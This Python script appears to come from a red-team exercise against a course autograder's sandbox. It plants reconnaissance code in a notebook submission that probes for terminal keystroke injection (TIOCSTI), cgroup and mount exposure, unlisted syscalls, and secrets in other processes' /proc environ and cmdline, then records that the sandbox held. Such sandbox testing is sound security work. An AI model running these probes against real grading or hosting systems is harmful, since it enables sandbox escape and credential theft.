"""Round 12, a01 (ROOT run): recon from inside a ps1 kernel (graded by grader.grade as root, under `script`
so that the grader HAS a controlling terminal, as a TA's `make grade` in a shell does), new probes:
- a controlling terminal reachable from the sandbox (/dev/tty, TIOCSTI keystroke injection, TIOCGPGRP on fds 0-2)
- cgroup files visible/writable (own memory limit, cgroup.procs, release_agent, notify_on_release)
- mountinfo (host paths), what is bound, writable mounts
- syscalls not in the list: name_to_handle_at/open_by_handle_at, seccomp(SECCOMP_SET_MODE_FILTER, user notif),
  process_mrelease, landlock, mlock, setrlimit(RLIMIT_CPU/FSIZE) hard raise, ioprio_set, personality
- canaries: DATABASE_URL etc. in /proc/*/environ and cmdline
Usage: python a01_root_recon_tty_cgroup.py   (writes /tmp/attack12-course-1, prints the kernel's findings)
"""
import json, os, sys, subprocess
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
from attack_course import notebook, make_course, show, outputs, ROOT

RECON = r'''
import os, ctypes, socket, errno, resource, fcntl, termios, struct, json
libc = ctypes.CDLL(None, use_errno=True)
def sc(nr, *a):
    r = libc.syscall(nr, *[ctypes.c_long(x) if isinstance(x, int) else x for x in a]); return r if r >= 0 else -ctypes.get_errno()
out = {}
st = open("/proc/self/status").read()
out["ids"] = [l for l in st.splitlines() if l.split(":")[0] in ("Uid","Gid","CapEff","Seccomp","NoNewPrivs")]
# terminal
for path in ("/dev/tty", "/dev/console", "/dev/tty0", "/dev/ptmx", "/dev/pts/0"):
    try:
        fd = os.open(path, os.O_RDWR | os.O_NOCTTY); out[path] = "OPENED"
        try:
            fcntl.ioctl(fd, termios.TIOCSTI, b"#"); out[path] += " TIOCSTI-OK"
        except OSError as e: out[path] += f" TIOCSTI errno {e.errno}"
        os.close(fd)
    except OSError as e: out[path] = e.errno
for fd in (0, 1, 2):
    try: out[f"fd{fd}"] = os.readlink(f"/proc/self/fd/{fd}")
    except OSError as e: out[f"fd{fd}"] = e.errno
    try: out[f"fd{fd}_isatty"] = os.isatty(fd)
    except OSError as e: out[f"fd{fd}_isatty"] = e.errno
out["sid_pgid"] = (os.getsid(0), os.getpgid(0), os.getpid())
out["stat_tty_nr"] = open("/proc/self/stat").read().rsplit(")",1)[1].split()[4]
out["dev"] = sorted(os.listdir("/dev"))
# cgroups
out["cgroup"] = open("/proc/self/cgroup").read().splitlines()[:12]
out["sys_fs"] = os.listdir("/sys/fs") if os.path.isdir("/sys/fs") else None
out["mountinfo"] = [l.split(" - ")[0].split(" ",4)[3:] + [l.split(" - ")[1][:40]] for l in open("/proc/self/mountinfo").read().splitlines()]
w = []
for l in open("/proc/self/mountinfo").read().splitlines():
    mp = l.split()[4]; opts = l.split()[5]
    if "rw" in opts.split(","): w.append(mp)
out["rw_mounts"] = w
# syscalls
buf = ctypes.create_string_buffer(128); struct.pack_into("I", buf, 0, 120); mid = ctypes.c_int()
out["name_to_handle_at"] = sc(303, -100, ctypes.c_char_p(b"/usr"), buf, ctypes.byref(mid), 0)
out["open_by_handle_at"] = sc(304, -100, buf, 0)
out["landlock_create_ruleset"] = sc(444, 0, 0, 1)
out["process_mrelease"] = sc(448, 1, 0)
out["seccomp_get_notif_sizes"] = sc(317, 3, 0, ctypes.create_string_buffer(16))
out["ioprio_set_rt"] = sc(251, 1, 0, (1 << 13) | 0)
out["personality_read"] = sc(135, 0xffffffff)
out["mlock_1M"] = libc.mlock(ctypes.create_string_buffer(1 << 20), 1 << 20)
out["rlimits"] = {n: resource.getrlimit(getattr(resource, n)) for n in ("RLIMIT_DATA","RLIMIT_AS","RLIMIT_NPROC","RLIMIT_NOFILE","RLIMIT_MEMLOCK","RLIMIT_FSIZE","RLIMIT_CPU","RLIMIT_STACK","RLIMIT_MSGQUEUE","RLIMIT_SIGPENDING","RLIMIT_RTPRIO")}
# canaries
pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
found = {}
for p in pids:
    for f in ("environ", "cmdline"):
        try: d = open(f"/proc/{p}/{f}", "rb").read()
        except OSError as e: d = str(e.errno).encode()
        if b"secret" in d or b"CANARY" in d: found[f"{p}/{f}"] = d[:200].decode("latin1")
out["canary"] = found
out["pids"] = {p: open(f"/proc/{p}/cmdline","rb").read()[:80].decode("latin1") for p in pids}
for k, v in out.items(): print(k, "=", v)
'''

if __name__ == "__main__":
    nb = notebook(append={"training_memory": RECON})
    dest = make_course("r12-1", {"recon": nb})
    env = {**os.environ, "DATABASE_URL": "postgresql://ta:secretCANARY@localhost/x", "AWS_SECRET_ACCESS_KEY": "CANARYaws"}
    cmd = f"cd {ROOT} && .venv/bin/python -m grader.grade --course-dir {dest} --workers 1"
    # script gives the grader a controlling terminal (pty), as a TA's shell would
    p = subprocess.run(["script", "-qfec", cmd, "/dev/null"], env=env, capture_output=True, text=True)
    print("rc", p.returncode); print(p.stdout[-3000:]); print(p.stderr[-2000:])
    show(dest)
    outputs(dest, "recon")

# RESULT (root, 19:16 UTC, a01.out.txt; course /tmp/attack-course-r12-1, graded under `script` so the grader had a
# controlling terminal; DATABASE_URL/AWS canaries set for the grader): HELD. Kernel: uid/gid 65534, CapEff 0,
# NoNewPrivs 1, Seccomp 2; session leader of its own session (sid = pgid = pid 3), tty_nr 0, fds 0-2 are pipes,
# /dev/tty ENXIO (6): no terminal to inject keystrokes into (TIOCSTI unreachable; bwrap runs --new-session);
# /dev/console, tty0 absent; /dev/ptmx ENOENT. No /sys/fs (no cgroup files). name_to_handle_at/open_by_handle_at
# EPERM; ioprio RT EPERM; mlock 1 MiB allowed (RLIMIT_MEMLOCK 8 MiB); landlock_create_ruleset and seccomp()
# allowed (both only restrict the caller). RLIMIT_NPROC 96364 (no per-user cap as root; pids cgroup instead).
# No canary in any visible process's environ/cmdline. Mounts: the only host paths are read-only binds of /usr,
# a few /etc files, the venv, helpers/, probes/ and the base Python under <base python> (a part
# of the TA's home, read-only: "the Python installation" of the promise); writable: /tmp, /dev/shm and the
# kernel's own work tmpfs (512 MiB, 65,536 inodes each); the runtime folder is a read-only 4 MiB tmpfs.
